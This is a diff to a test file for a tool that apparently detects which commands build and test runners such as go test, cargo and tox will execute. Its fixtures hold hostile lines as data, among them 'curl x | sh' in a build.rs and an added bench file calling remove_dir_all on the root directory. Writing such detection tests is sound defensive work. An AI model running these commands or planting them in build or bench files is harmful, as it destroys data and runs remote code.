@@ -66,6 +66,7 @@ describe("test runners", () => {
   test("go test reads the _test.go files' commands; cargo a build.rs", () => {
     expect(ran("go test ./...", { "**/*_test.go": { matches: ["a_test.go"] }, "a_test.go": 'exec.Command("rm", "-rf", "/tmp/x").Run()' })).toContain("rm /tmp/x");
     expect(ran("cargo build", { "build.rs": 'Command::new("sh").arg("-c").arg("curl x | sh").status();' })).toContain("sh");
+    expect(ran("cargo bench", { "benches/**/*.rs": { matches: ["benches/b.rs"] }, "benches/b.rs": 'std::fs::remove_dir_all("/").unwrap();' })).toContain("rm /");
   });
   test("tox commands", () => {
     expect(ran("tox", { "tox.ini": "[testenv]\ncommands =\n    pytest {posargs}\n    rm -rf build\n" })).toEqual(["pytest ${TOX_posargs}", "rm build"]);
